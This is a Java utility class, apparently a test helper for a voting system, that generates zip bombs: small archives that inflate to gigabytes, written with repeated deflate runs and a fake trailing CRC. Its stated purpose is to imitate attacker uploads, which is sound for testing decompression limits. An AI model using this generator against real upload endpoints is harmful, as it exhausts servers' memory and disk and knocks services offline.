package org.atazan.voting.protocols;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.Deflater;

/**
 * Small zip files that unzip to gigabytes, as an attacker would upload them, written in milliseconds:
 * the repeated part is deflated once (about 1,000 to 1) and its compressed bytes written as many times
 * as needed. Raw deflate allows that: each part is flushed to a byte boundary and refers back only
 * within itself. The entry has a data descriptor (general-purpose flag bit 3), so no size or CRC has
 * to be known in advance; a reader that checks its limits never gets to the (wrong) CRC at the end.
 */
public final class ZipBombs {
    private static final int UNIT_BYTES = 1 << 20;

    private ZipBombs() {
    }

    /**
     * Writes a zip holding one file, {@code entry}: {@code head}, then {@code unit} repeated about
     * {@code times} times (rounded up to whole runs of about a megabyte), then {@code tail}.
     *
     * @return how many times {@code unit} was written
     */
    public static long write(Path zip, String entry, String head, String unit, long times, String tail) throws IOException {
        byte[] u = unit.getBytes(StandardCharsets.UTF_8);
        int perRun = Math.max(1, UNIT_BYTES / u.length);
        byte[] run = new byte[perRun * u.length];
        for (int i = 0; i < perRun; i++) System.arraycopy(u, 0, run, i * u.length, u.length);
        byte[] headBytes = deflate(head.getBytes(StandardCharsets.UTF_8), false);
        byte[] runBytes = deflate(run, false);
        byte[] tailBytes = deflate(tail.getBytes(StandardCharsets.UTF_8), true);
        long runs = (times + perRun - 1) / perRun;
        byte[] name = entry.getBytes(StandardCharsets.UTF_8);
        try (OutputStream out = new java.io.BufferedOutputStream(Files.newOutputStream(zip), 1 << 16)) {
            // Local file header: version 20, flag 0x0808 (data descriptor, UTF-8 name), deflated, no sizes yet.
            int32(out, 0x04034b50);
            int16(out, 20);
            int16(out, 0x0808);
            int16(out, 8);
            int32(out, 0); // time and date
            int32(out, 0); // CRC-32, in the descriptor
            int32(out, 0); // compressed size, in the descriptor
            int32(out, 0); // uncompressed size, in the descriptor
            int16(out, name.length);
            int16(out, 0);
            out.write(name);
            out.write(headBytes);
            for (long i = 0; i < runs; i++) out.write(runBytes);
            out.write(tailBytes);
            // Data descriptor with made-up figures: whoever reads to here has read gigabytes already.
            int32(out, 0x08074b50);
            int32(out, 0);
            int32(out, 0);
            int32(out, 0);
        }
        return runs * perRun;
    }

    /** Raw deflate of {@code data}: flushed to a byte boundary, or the final block when {@code last}. */
    private static byte[] deflate(byte[] data, boolean last) {
        Deflater d = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            d.setInput(data);
            if (last) d.finish();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buf = new byte[1 << 16];
            while (true) {
                int n = d.deflate(buf, 0, buf.length, last ? Deflater.NO_FLUSH : Deflater.SYNC_FLUSH);
                out.write(buf, 0, n);
                if (last ? d.finished() : n < buf.length && d.needsInput()) break;
            }
            return out.toByteArray();
        } finally {
            d.end();
        }
    }

    private static void int16(OutputStream out, int v) throws IOException {
        out.write(v & 0xff);
        out.write((v >>> 8) & 0xff);
    }

    private static void int32(OutputStream out, int v) throws IOException {
        int16(out, v & 0xffff);
        int16(out, (v >>> 16) & 0xffff);
    }
}
